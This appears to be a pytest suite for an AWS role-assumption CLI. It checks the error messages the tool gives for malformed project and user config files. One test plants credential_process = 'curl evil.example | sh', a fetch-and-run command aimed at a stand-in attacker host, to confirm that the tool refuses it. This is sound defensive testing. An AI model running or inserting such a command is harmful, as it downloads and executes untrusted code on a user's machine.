"""Tests the messages about invalid files."""


from failure_world import ALICE, file


def refused(world, says, content):
    """What `allow` says, or else what happens then."""
    folder = world.project("shop", content)
    if world.awsrole("allow", folder).code:
        says("allow")
    else:
        says()


def test_spelling(world, says):
    """A key is misspelled."""
    refused(world, says, file("Plain") + 'regoin = "eu-west-1"\n')


def test_elevate_names_no_role(world, says):
    """`elevate` is misspelled."""
    refused(world, says, f'elevate = "amdin"\n[role.admin]\n{file("Plain")}')


def test_default_role_expires(world, says):
    """The default role has `expires_after`."""
    refused(world, says, f'default_role = "admin"\n[role.admin]\n{file("Plain")}expires_after = "30m"\n')


def test_confirmation_is_unknown(world, says):
    """`confirm` has another text than "account"."""
    refused(world, says, f'{file("Plain")}confirm = "name"\n')


def test_not_toml(world, says):
    """The file contains YAML."""
    refused(world, says, "role_arn: arn:aws:iam::222222222222:role/Plain\n")


def test_account_without_quotes(world, says):
    """An account ID without quotes is a number in TOML, which would lose its leading zeros."""
    refused(world, says, file("Plain") + "account_id = 012345678901\n")


def test_command_in_a_projects_file(world, says):
    """A project file contains a command."""
    refused(world, says, file("Plain") + 'credential_process = "curl evil.example | sh"\n')


def test_secret_in_a_projects_file(world, says):
    """A project file contains a secret key."""
    refused(world, says, file("Plain") + 'aws_secret_access_key = "x"\n')


def test_no_role_arn(world, says):
    """The value isn't an ARN."""
    refused(world, says, 'role_arn = "Deploy"\nsource_profile = "alice"\n')


def test_arn_of_a_session(world, says):
    """The ARN of a session was copied from `aws sts get-caller-identity`."""
    refused(world, says, 'role_arn = "arn:aws:sts::222222222222:assumed-role/Plain/alice"\nsource_profile = "alice"\n')


def test_no_source(world, says):
    """The file doesn't set the credentials that assume the role."""
    refused(world, says, 'role_arn = "arn:aws:iam::222222222222:role/Plain"\n')


def test_no_such_profile(world, says):
    """The profile's name is misspelled."""
    refused(world, says, file("Plain", source="alcie"))


def test_no_such_profile_at_all(world, says):
    """The profile doesn't exist, and no existing name is similar."""
    refused(world, says, file("Plain", source="production-eu"))


def test_profile_that_includes_another(world, says):
    """A profile uses a setting of aws-vault."""
    world.config(more="[profile common]\nsource_profile = alice\n"
                      "[profile shop]\ninclude_profile = common\nrole_arn = arn:aws:iam::222222222222:role/Plain\n")
    refused(world, says, 'profile = "shop"\n')


def test_profile_without_credentials(world, says):
    """A profile has only a region."""
    world.config(more="[profile empty]\nregion = us-east-1\n")
    refused(world, says, file("Plain", source="empty"))


def test_profile_with_half_a_key(world, says):
    """A profile has an access key ID but no secret."""
    world.write(".aws/credentials", f"[alice]\naws_access_key_id = {ALICE['access_key_id']}\n")
    refused(world, says, file("Plain"))


def test_profiles_in_a_circle(world, says):
    """Two profiles are the source of each other."""
    one = "[profile {0}]\nrole_arn = arn:aws:iam::222222222222:role/Plain\nsource_profile = {1}\n"
    world.config(more=one.format("a", "b") + one.format("b", "a"))
    refused(world, says, file("Plain", source="a"))


def test_no_such_sso_session(world, says):
    """A profile refers to an sso-session that doesn't exist."""
    world.config(more="[profile x]\nsso_session = crop\nsso_account_id = 111111111111\nsso_role_name = Admin\n")
    refused(world, says, file("Plain", source="x"))


SET = 'sso_account_id = "111111111111"\nsso_role_name = "Admin"\n'


def test_no_sso_session_for_the_project(world, says):
    """The project file names an sso-session that nobody created on this machine."""
    refused(world, says, 'sso_session = "team-of-the-shop"\n' + SET)


def test_permission_set_and_profile(world, says):
    """The project file names a permission set and a profile."""
    refused(world, says, 'profile = "alice"\nsso_session = "corp"\n' + SET)


def test_start_url_in_the_project(world, says):
    """The project file has a start URL."""
    refused(world, says, 'sso_start_url = "https://corp.example.com/start"\n' + SET)


def test_aws_file_is_broken(world, says):
    """~/.aws/config is invalid, also for the AWS CLI."""
    world.config(more="[profile x\nregion = eu-west-1\n")
    refused(world, says, file("Plain"))


def test_aws_file_is_not_there(world, says):
    """There is no ~/.aws: the AWS CLI was never set up."""
    for name in ("config", "credentials"):
        (world.home / ".aws" / name).unlink()
    refused(world, says, file("Plain"))


def test_duration_is_out_of_range(world, says):
    """The duration exceeds the maximum of STS."""
    refused(world, says, file("Plain", duration_seconds=86400))


def test_external_id_with_a_space(world, says):
    """The external ID contains a space, which STS rejects."""
    refused(world, says, file("Plain", external_id="shop 42"))


def test_region_in_words(world, says):
    """The region is the name in the console."""
    refused(world, says, file("Plain", region="Europe (Ireland)"))


def test_pin_of_another_account(world, says):
    """The account pin differs from the role's account."""
    refused(world, says, file("Plain", account_id="333333333333"))


def test_no_default_role(world, says):
    """The file has several roles but no default role."""
    refused(world, says, f'[role.dev]\n{file("Plain")}[role.prod]\n{file("Deploy")}')


def test_one_role_and_no_default_role(world, says):
    """The file has one role with a name and no default role."""
    refused(world, says, f'[role.dev]\n{file("Plain")}')


def test_no_such_role(world, says):
    """The requested role isn't in the file."""
    world.shop(f'default_role = "dev"\n[role.dev]\n{file("Plain")}[role.prod]\n{file("Deploy")}')
    says("exec --role prdo -- true")


def test_empty_file(world, says):
    """The file is empty."""
    refused(world, says, "")


def test_two_sources(world, says):
    """The file sets two sources."""
    refused(world, says, file("Plain") + 'credential_source = "Environment"\n')


def test_two_policies(world, says):
    """The file sets a preset for one role and managed policies for all."""
    refused(world, says, 'policy_arns = ["arn:aws:iam::aws:policy/ReadOnlyAccess"]\ndefault_role = "dev"\n[role.dev]\n'
            + file("Plain") + 'preset = "read-only"\n')


def test_managed_policy_without_a_role(world, says):
    """No call of the source sends managed policies."""
    refused(world, says, 'profile = "sso"\npolicy_arns = ["arn:aws:iam::aws:policy/ReadOnlyAccess"]\n')


def test_own_config_is_broken(world, says):
    """The user's config.toml has an unknown key."""
    world.shop(file("Plain"))
    world.write(".config/awsrole/config.toml", 'mfa_porcess = "x"\n')
    says()


def test_key_of_the_user_in_a_project(world, says):
    """A project file contains a key of the user's config.toml."""
    refused(world, says, file("Plain") + "protect = true\n")


def test_key_of_a_project_in_own_config(world, says):
    """The user's config.toml contains a key of a project file."""
    world.shop(file("Plain"))
    world.write(".config/awsrole/config.toml", 'region = "eu-west-1"\n')
    says()


def test_key_twice(world, says):
    """A key is defined twice."""
    refused(world, says, file("Plain") + 'region = "eu-west-1"\nregion = "eu-west-2"\n')


def test_cache_key_is_unknown(world, says):
    """`key` in [cache] of config.toml names no backend."""
    world.shop(file("Plain"))
    world.write(".config/awsrole/config.toml", '[cache]\nkey = "file"\n')
    says()


def test_color_is_unknown(world, says):
    """An account's color in config.toml is misspelled."""
    world.shop(file("Plain"))
    world.write(".config/awsrole/config.toml", '[accounts.222222222222]\nname = "shop-prod"\ncolor = "rde"\n')
    says()


def test_endpoint_is_no_url(world, says):
    """The endpoint isn't a URL."""
    world.shop(file("Plain"))
    says(env={"AWS_ENDPOINT_URL": "sts.local"})


def test_link_to_nowhere(world, says):
    """.awsrole.toml is a dangling symlink."""
    (world.project("shop") / ".awsrole.toml").symlink_to("nowhere")
    says()


def test_directory_of_that_name(world, says):
    """.awsrole.toml is a directory."""
    (world.project("shop") / ".awsrole.toml").mkdir()
    says()


def test_file_is_no_text(world, says):
    """.awsrole.toml was saved by an editor in UTF-16."""
    refused(world, says, file("Plain").encode("utf-16"))


def test_file_is_huge(world, says):
    """.awsrole.toml is a large file of another program."""
    world.project("shop", "#" * (1 << 20))
    result = world.awsrole("allow", cwd=world.home / "src/shop")
    says.compare("$ awsrole allow", result.err, result.code, world.home)
